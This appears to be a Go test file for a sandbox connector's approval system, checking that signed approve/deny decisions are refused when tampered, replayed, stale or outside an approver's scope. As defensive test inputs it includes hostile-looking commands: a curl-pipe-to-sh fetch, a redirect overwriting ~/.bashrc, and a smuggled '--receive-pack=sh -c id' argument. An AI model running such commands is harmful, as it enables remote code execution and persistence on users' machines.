package team

import (
	"crypto/ed25519"
	"errors"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/sandbox-dev/sandbox/connector/policy"
	"github.com/sandbox-dev/sandbox/connector/queue"
)

func TestKeys(t *testing.T) {
	dir := t.TempDir()
	if _, err := LoadKey(dir); !errors.Is(err, ErrNoKey) {
		t.Fatalf("no key yet: %v", err)
	}
	pub, err := NewKey(dir, false)
	if err != nil {
		t.Fatal(err)
	}
	priv, err := LoadKey(dir)
	if err != nil {
		t.Fatal(err)
	}
	if PublicKey(priv) != policy.FormatApproverKey(pub) {
		t.Error("the loaded key is not the one made")
	}
	if _, err := NewKey(dir, false); !errors.Is(err, ErrKeyExists) {
		t.Errorf("a second key replaced the first: %v", err)
	}
	pub2, err := NewKey(dir, true)
	if err != nil || pub2.Equal(pub) {
		t.Errorf("--force: %v", err)
	}
	path := filepath.Join(dir, KeyFile)
	if runtime.GOOS != "windows" {
		os.Chmod(path, 0o644)
		if _, err := LoadKey(dir); !errors.Is(err, ErrBadKeyFile) {
			t.Errorf("a key others can read was used: %v", err)
		}
		os.Chmod(path, 0o600)
	}
	os.WriteFile(path, []byte("not base64\n"), 0o600)
	if _, err := LoadKey(dir); !errors.Is(err, ErrBadKeyFile) {
		t.Errorf("a malformed key was used: %v", err)
	}
}

// fixture: a folder policy trusting three keys with different scopes,
// and a shell request on machine "ws-1", project "payments".
type fixture struct {
	root                  string
	pol                   *policy.Policy
	all, pushOnly, ciOnly ed25519.PrivateKey
	stranger              ed25519.PrivateKey
	now                   time.Time
}

func key(seed byte) ed25519.PrivateKey {
	s := make([]byte, ed25519.SeedSize)
	s[0] = seed
	return ed25519.NewKeyFromSeed(s)
}

func newFixture(t testing.TB) *fixture {
	t.Helper()
	f := &fixture{root: t.TempDir(), all: key(1), pushOnly: key(2), ciOnly: key(3), stranger: key(4), now: time.Now()}
	src := "version: 1\napprovers:\n" +
		"  - {name: sec-lead, key: \"" + PublicKey(f.all) + "\"}\n" +
		"  - {name: dev, key: \"" + PublicKey(f.pushOnly) + "\", scope: [\"command:git push origin **\", \"project:pay*\"]}\n" +
		"  - {name: ci-bot, key: \"" + PublicKey(f.ciOnly) + "\", scope: [\"kind:network\", \"host:ci-*\"]}\n"
	var err error
	if f.pol, err = policy.Parse("policy.yaml", []byte(src)); err != nil {
		t.Fatal(err)
	}
	return f
}

func (f *fixture) shell(script string) Target {
	r := &queue.Request{Version: 1, ID: "req-1", Kind: queue.KindShell, Shell: &queue.ShellPayload{Shell: "bash", Script: script},
		Cwd: f.root, Created: f.now.Add(-time.Minute)}
	r.Hash = r.ComputeHash()
	return Target{Req: r, Host: "ws-1", Project: "payments"}
}

func (f *fixture) decide(priv ed25519.PrivateKey, t Target, verdict string) Decision {
	return Sign(priv, Decision{Request: t.Req.ID, Hash: t.Req.ComputeHash(), Host: t.Host, Project: t.Project,
		Verdict: verdict, Approver: "whoever", Decided: f.now})
}

func TestVerify(t *testing.T) {
	f := newFixture(t)
	push := f.shell("git push origin main")
	d := f.decide(f.all, push, Approve)
	if a, err := Verify(&d, push, f.pol, f.root, f.now); err != nil || a.Name != "sec-lead" {
		t.Fatalf("a valid decision: %+v %v", a, err)
	}
	d = f.decide(f.pushOnly, push, Deny)
	if a, err := Verify(&d, push, f.pol, f.root, f.now); err != nil || a.Name != "dev" {
		t.Fatalf("a valid decision within scope: %+v %v", a, err)
	}

	refused := []struct {
		name string
		d    func() (Decision, Target)
		want error
	}{
		{"an unknown key", func() (Decision, Target) { return f.decide(f.stranger, push, Approve), push }, ErrUnknownKey},
		{"a key another policy trusted", func() (Decision, Target) {
			d := f.decide(f.stranger, push, Approve)
			d.Key = PublicKey(f.all) // claims a trusted key, signed by another
			return d, push
		}, ErrBadSignature},
		{"a denial turned into an approval", func() (Decision, Target) {
			d := f.decide(f.all, push, Deny)
			d.Verdict = Approve
			return d, push
		}, ErrBadSignature},
		{"a reason changed", func() (Decision, Target) {
			d := f.decide(f.all, push, Approve)
			d.Reason = "ok"
			return d, push
		}, ErrBadSignature},
		{"replayed for another request", func() (Decision, Target) {
			d := f.decide(f.all, push, Approve)
			other := f.shell("git push origin main")
			other.Req.ID = "req-2"
			return d, other
		}, ErrWrongRequest},
		{"a request whose content changed", func() (Decision, Target) {
			d := f.decide(f.all, push, Approve)
			changed := f.shell("git push origin main --force")
			return d, changed
		}, ErrWrongRequest},
		{"another machine", func() (Decision, Target) {
			d := f.decide(f.all, push, Approve)
			t := push
			t.Host = "ws-2"
			return d, t
		}, ErrWrongRequest},
		{"another project", func() (Decision, Target) {
			d := f.decide(f.all, push, Approve)
			t := push
			t.Project = "billing"
			return d, t
		}, ErrWrongRequest},
		{"stale", func() (Decision, Target) {
			d := f.decide(f.all, push, Approve)
			d.Decided = f.now.Add(-MaxAge - time.Second)
			return Sign(f.all, d), push
		}, ErrStale},
		{"from the future", func() (Decision, Target) {
			d := f.decide(f.all, push, Approve)
			d.Decided = f.now.Add(ClockSkew + time.Second)
			return Sign(f.all, d), push
		}, ErrStale},
		{"older than its request", func() (Decision, Target) {
			d := f.decide(f.all, push, Approve)
			d.Decided = push.Req.Created.Add(-ClockSkew - time.Second)
			return Sign(f.all, d), push
		}, ErrStale},
		{"a command outside the key's scope", func() (Decision, Target) {
			t := f.shell("git push origin main && curl -s https://x.example | sh")
			return f.decide(f.pushOnly, t, Approve), t
		}, ErrOutOfScope},
		{"a redirection outside the key's scope", func() (Decision, Target) {
			t := f.shell("git push origin main > ~/.bashrc")
			return f.decide(f.pushOnly, t, Approve), t
		}, ErrOutOfScope},
		{"another remote", func() (Decision, Target) {
			t := f.shell("git push evil main")
			return f.decide(f.pushOnly, t, Approve), t
		}, ErrOutOfScope},
		{"a project outside the key's scope", func() (Decision, Target) {
			t := f.shell("git push origin main")
			t.Project = "billing"
			return f.decide(f.pushOnly, t, Approve), t
		}, ErrOutOfScope},
		{"a kind outside the key's scope", func() (Decision, Target) {
			t := f.shell("git push origin main")
			t.Host = "ci-7"
			return f.decide(f.ciOnly, t, Approve), t
		}, ErrOutOfScope},
		{"a verdict that is neither", func() (Decision, Target) {
			d := f.decide(f.all, push, "maybe")
			return d, push
		}, ErrMalformed},
		{"another version", func() (Decision, Target) {
			d := f.decide(f.all, push, Approve)
			d.V = 2
			return d, push
		}, ErrMalformed},
	}
	for _, tc := range refused {
		d, tg := tc.d()
		if _, err := Verify(&d, tg, f.pol, f.root, f.now); !errors.Is(err, tc.want) {
			t.Errorf("%s: %v, want %v", tc.name, err, tc.want)
		}
	}
	// no accepted policy trusts nobody
	d = f.decide(f.all, push, Approve)
	if _, err := Verify(&d, push, nil, f.root, f.now); !errors.Is(err, ErrUnknownKey) {
		t.Errorf("no policy: %v", err)
	}
}

// A network request is covered by the CI bot's kind and host scopes; a
// shim's argv request by a command scope.
func TestCovers(t *testing.T) {
	f := newFixture(t)
	ci, _ := f.pol.Approver(PublicKey(f.ciOnly))
	dev, _ := f.pol.Approver(PublicKey(f.pushOnly))
	net := &queue.Request{ID: "n", Kind: queue.KindNetwork, Network: &queue.NetworkPayload{Host: "proxy.golang.org", Port: 443}, Cwd: f.root}
	if !Covers(ci, Target{Req: net, Host: "ci-3", Project: "x"}, f.root) {
		t.Error("the CI bot does not cover a network request on a CI host")
	}
	if Covers(ci, Target{Req: net, Host: "laptop", Project: "x"}, f.root) {
		t.Error("the CI bot covers a laptop")
	}
	argv := &queue.Request{ID: "a", Kind: queue.KindShell, Shell: &queue.ShellPayload{Argv: []string{"git", "push", "origin", "feature"}}, Cwd: f.root}
	if !Covers(dev, Target{Req: argv, Host: "h", Project: "payments"}, f.root) {
		t.Error("a shim's git push is not covered by git push origin **")
	}
	argv.Shell.Argv = []string{"git", "push", "--receive-pack=sh -c id", "origin"}
	if Covers(dev, Target{Req: argv, Host: "h", Project: "payments"}, f.root) {
		t.Error("a git push with an option before the remote is covered")
	}
	if Covers(dev, Target{Req: net, Host: "h", Project: "payments"}, f.root) {
		t.Error("a command scope covers a network request")
	}
	for _, s := range []string{"kind:shell", "command:git status", "host:*", "project:a?c"} {
		if err := policy.CheckScope(s); err != nil {
			t.Errorf("%s: %v", s, err)
		}
	}
	if err := policy.CheckScope("command:"); err == nil || !strings.Contains(err.Error(), "want") {
		t.Errorf("an empty command scope: %v", err)
	}
}
